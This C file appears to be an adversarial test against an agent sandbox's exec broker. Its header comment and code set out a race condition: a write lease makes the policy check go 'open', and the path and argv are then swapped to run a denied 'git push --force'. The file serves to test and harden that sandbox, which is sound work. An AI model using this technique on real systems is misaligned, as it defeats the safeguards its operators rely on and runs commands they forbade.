// technique: make the exec check "open" (a write lease on the decided file: the broker's non-blocking read of its head fails, so its format is unknown), then swap path and argv to "git push --force": an open check accepts any image the policy lets execute by path, without deciding its argv
// timeout: 60
//
// The broker reads the head of the decided file (execFormat) with
// O_NONBLOCK: a write lease held by the agent makes that open fail with
// EWOULDBLOCK (and tells the holder, through F_GETLEASE, that the broker has
// read the path and argv). The check is then "open": verifyExec accepts any
// exe for which DecideExec(exe, nil) allows, with no argv. The holder
// writes the new path (.adv/git) and argv (push --force) into MAP_SHARED
// pages before the CONTINUE; git is on exec.deny_args for "push --force".
#include "exec_race.h"
#include <sys/mman.h>

static double now(void) {
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}
static void noop(int s) { (void)s; }

int main(int argc, char **argv) {
	exec_role(argc, argv);
	signal(SIGIO, noop);
	exec_setup();
	exec_copy("git");
	char *sh = mmap(0, 8192, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	char *path = sh, *a1 = sh + 2048, *a2 = sh + 2100;
	for (int i = 0; i < 5 && !exec_won; i++) {
		snprintf(path, 1200, "%s/okay", exec_dir);
		strcpy(a1, "status");
		strcpy(a2, "--short");
		char p[1200];
		snprintf(p, sizeof p, "%s/okay", exec_dir);
		int fd = open(p, O_RDONLY | O_CLOEXEC);
		if (fd < 0 || fcntl(fd, F_SETLEASE, F_WRLCK) < 0) { printf("lease: %s\n", strerror(errno)); return 0; }
		pid_t c = fork();
		if (c == 0) {
			char *av[] = {"git", a1, a2, 0};
			execve(path, av, (char *[]){0});
			_exit(errno == EACCES ? 13 : 14);
		}
		double t0 = now();
		while (fcntl(fd, F_GETLEASE) == F_WRLCK && now() - t0 < 5);
		if (i < 3) printf("attempt %d: lease broken after %.0f us\n", i, (now() - t0) * 1e6);
		memcpy(path + strlen(exec_dir) + 1, "git\0", 4); // the broker has read path and argv
		strcpy(a1, "push");
		strcpy(a2, "--force");
		fcntl(fd, F_SETLEASE, F_UNLCK);
		close(fd);
		int st;
		waitpid(c, &st, 0);
		exec_status(st);
	}
	printf("exec attempts: %d refused, %d allowed image ran, %d denied image ran, %d killed, %d other\n",
	       exec_refused, exec_allowed, exec_won, exec_killed, exec_other);
	return 0;
}
